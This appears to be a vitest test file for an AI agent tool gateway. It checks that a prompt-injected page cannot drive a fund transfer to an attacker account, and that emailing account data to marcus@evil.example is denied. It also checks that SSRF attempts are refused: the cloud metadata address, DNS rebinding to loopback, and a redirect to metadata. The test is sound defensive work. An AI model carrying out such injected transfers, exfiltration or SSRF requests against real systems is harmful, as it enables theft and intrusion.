// The gateway under attack: the seed 002 story, SSRF, timeouts, retries, secrets, hot reload.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newSession, startHarness, type Harness } from "./gateway-harness.js";

describe("the seed 002 story over HTTP (demo tools)", () => {
  let h: Harness;
  let key: string;
  beforeAll(async () => {
    h = await startHarness();
    key = await h.agentKey();
  });
  afterAll(async () => h.close());

  it("an injected page fetched during a balance check cannot lead to a transfer", async () => {
    const sid = await newSession(h, key, "balance_check", "What is my checking balance? Account 3847.");
    const page = await h.req("POST", `/v1/sessions/${sid}/calls`, { key, body: { tool: "fetch_url", args: { url: "https://docs.financeapp.example/rates" } } });
    expect(page.status).toBe(200);
    expect(JSON.stringify(page.body["result"])).toMatch(/66611337/);
    const t = await h.req("POST", `/v1/sessions/${sid}/calls`, { key, body: { tool: "transfer_funds", args: { from: "3847", to: "66611337", amount: 50000 } } });
    expect(t.status).toBe(403);
    expect(t.body).toMatchObject({ verdict: "deny", rule_ids: ["warden.not_in_task"] });
    expect(h.gw.demo?.state.transactions).toEqual([]);
  });

  it("after untrusted content and account data, nothing is emailed out", async () => {
    const sid = await newSession(h, key, "report", "Prepare the monthly report for bob@financeapp.example");
    expect((await h.req("POST", `/v1/sessions/${sid}/calls`, { key, body: { tool: "fetch_url", args: { url: "https://docs.financeapp.example/rates" } } })).status).toBe(200);
    expect((await h.req("POST", `/v1/sessions/${sid}/calls`, { key, body: { tool: "read_account", args: { account: "3847" } } })).status).toBe(200);
    const before = h.gw.demo?.state.outbox.length;
    const out = await h.req("POST", `/v1/sessions/${sid}/calls`, { key, body: { tool: "send_email", args: { to: "marcus@evil.example", subject: "balances", body: "3847: 4200" } } });
    expect(out.status).toBe(403);
    expect(out.body).toMatchObject({ verdict: "deny", rule_ids: ["lethal-trifecta"] });
    expect(h.gw.demo?.state.outbox.length).toBe(before);
    const s = await h.req("GET", `/v1/sessions/${sid}`, { key });
    // The page's hidden instruction is also caught by the injection scanner at post_tool.
    expect(s.body["labels"]).toEqual(expect.arrayContaining(["injection", "sensitive", "untrusted"]));
  });
});

// An upstream on loopback that the tests control.
let hits: Record<string, number> = {};
function upstream(): Promise<Server> {
  return new Promise((resolve) => {
    const s = createServer((req: IncomingMessage, res: ServerResponse) => {
      const path = req.url ?? "/";
      hits[path] = (hits[path] ?? 0) + 1;
      if (path.startsWith("/flaky") && (hits[path] ?? 0) < 3) {
        res.writeHead(503).end("busy");
        return;
      }
      if (path.startsWith("/slow")) {
        setTimeout(() => res.writeHead(200, { "content-type": "application/json" }).end("{}"), 3000).unref();
        return;
      }
      if (path.startsWith("/redirect")) {
        res.writeHead(302, { location: "http://169.254.169.254/latest/meta-data/" }).end();
        return;
      }
      // Echo what it received, including the Authorization header: a careless upstream.
      res.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ path, auth: req.headers["authorization"] ?? null }));
    });
    s.listen(0, "127.0.0.1", () => resolve(s));
  });
}

const SECRET = "s3cr3t-upstream-token-DO-NOT-LEAK-8f3a";

function policyYaml(): string {
  const tool = (name: string, extra = "") => `  ${name}: { tier: read_only, idempotent: true, egress: ["127.0.0.1", "internal.test", "169.254.169.254"]${extra} }`;
  return `version: 1
tools:
${["echo", "flaky", "slow", "redirect", "metadata", "rebind", "unsafe_flaky", "private_default"].map((t) => tool(t)).join("\n")}
tasks:
  work: ["*"]
roles:
  r: { tools: ["*"] }
agents:
  finance-agent: { tenant: t, roles: [r] }
`;
}

describe("execution through the gateway (HTTP upstream tools)", () => {
  let h: Harness;
  let key: string;
  let up: Server;
  beforeAll(async () => {
    up = await upstream();
    const port = (up.address() as AddressInfo).port;
    const base = `http://127.0.0.1:${port}`;
    const t = (path: string, extra = "", allow = 'allow_private: ["127.0.0.1/32"]') => `{ http: { method: GET, url: "${path}", headers: { Authorization: "Bearer \${credential:up}" } }, credentials: [up], ${allow}${extra} }`;
    const yaml = `demo: false
credentials:
  up: { env: TEST_UPSTREAM_TOKEN }
tools:
  echo: ${t(`${base}/echo`)}
  flaky: ${t(`${base}/flaky`, ", retries: { max: 3, base: 10ms, max_delay: 50ms }")}
  unsafe_flaky: ${t(`${base}/flaky-unsafe`, ", retries: { max: 3, base: 10ms, max_delay: 50ms }")}
  slow: ${t(`${base}/slow`, ", timeout: 300ms")}
  redirect: ${t(`${base}/redirect`)}
  metadata: ${t("http://169.254.169.254/latest/meta-data/")}
  rebind: ${t(`http://internal.test:${port}/echo`, "", "allow_private: false")}
  private_default: ${t(`${base}/echo`, "", "allow_private: false")}
`;
    h = await startHarness({
      yaml,
      policy: policyYaml(),
      env: { TEST_UPSTREAM_TOKEN: SECRET },
      start: { exec: { lookup: async (host: string) => (host === "internal.test" ? [{ address: "127.0.0.1", family: 4 as const }] : [{ address: host, family: 4 as const }]) } },
    });
    key = await h.agentKey();
  });
  afterAll(async () => {
    await h.close();
    up.close();
  });

  const run = async (tool: string, args: Record<string, unknown> = {}, extra: Record<string, unknown> = {}) => {
    const sid = await newSession(h, key, "work");
    return h.req("POST", `/v1/sessions/${sid}/calls`, { key, body: { tool, args, ...extra } });
  };

  it("injects the credential upstream and masks it when the upstream echoes it back", async () => {
    hits = {};
    const r = await run("echo");
    expect(r.status).toBe(200);
    expect(hits["/echo"]).toBe(1);
    expect(r.text).not.toContain(SECRET);
    expect(JSON.stringify(r.body["result"])).toMatch(/REDACTED/);
  });

  it("refuses SSRF: private address without an explicit allowance, metadata address, DNS to loopback, redirect to metadata", async () => {
    for (const tool of ["private_default", "metadata", "rebind", "redirect"]) {
      const r = await run(tool);
      expect(r.status, tool).toBe(502);
      expect((r.body["error"] as { code: string }).code, tool).toMatch(/^EGRESS_/);
    }
  });

  it("retries an idempotent tool with backoff, and never retries a call that is not", async () => {
    hits = {};
    const ok = await run("flaky");
    expect(ok.status).toBe(200);
    expect(hits["/flaky"]).toBe(3);
    hits = {};
    h.gw.runtime.policies.policy.tools.get("unsafe_flaky");
    const policyFile = join(h.dir, "policy.yaml");
    writeFileSync(policyFile, policyYaml().replace("  unsafe_flaky: { tier: read_only, idempotent: true,", "  unsafe_flaky: { tier: read_only, idempotent: false,"));
    expect(h.gw.runtime.policies.reload().changed).toBe(true);
    const once = await run("unsafe_flaky");
    expect(once.status).toBe(502);
    expect(hits["/flaky-unsafe"]).toBe(1);
    // With an idempotency key, retrying is safe again.
    hits = {};
    const keyed = await run("unsafe_flaky", {}, { idempotency_key: "k1" });
    expect(keyed.status).toBe(200);
    expect(hits["/flaky-unsafe"]).toBe(3);
  });

  it("times a slow tool out and says so", async () => {
    const r = await run("slow");
    expect(r.status).toBe(502);
    expect(r.body["error"]).toMatchObject({ code: "UPSTREAM_TIMEOUT" });
  });

  it("never writes the secret to any response, log line, or file in the data directory", async () => {
    await h.gw.runtime.audit.flush();
    expect(h.logs.join("\n")).not.toContain(SECRET);
    const walk = (d: string): string[] => readdirSync(d).flatMap((f) => (statSync(join(d, f)).isDirectory() ? walk(join(d, f)) : [join(d, f)]));
    for (const f of walk(join(h.dir, "data"))) expect(readFileSync(f).includes(Buffer.from(SECRET)), f).toBe(false);
  });

  it("keeps serving the old policy when a reload is broken, and shows why in /readyz", async () => {
    const policyFile = join(h.dir, "policy.yaml");
    writeFileSync(policyFile, "version: 1\ntools:\n  echo: { tier: nonsense }\n");
    await new Promise((r) => setTimeout(r, 600)); // the watcher debounces file events
    const ready = await h.req("GET", "/readyz");
    expect(ready.status).toBe(200);
    const p = (ready.body["checks"] as { policy: { last_reload_error: { errors: string[] } | null } }).policy;
    expect(p.last_reload_error?.errors.join("\n")).toMatch(/POLICY_INVALID_VALUE/);
    expect((await run("echo")).status).toBe(200);
    writeFileSync(policyFile, policyYaml());
    expect(h.gw.runtime.policies.reload().ok).toBe(true);
    expect(h.gw.runtime.policies.reloadStatus.last_error).toBeNull();
  });
});
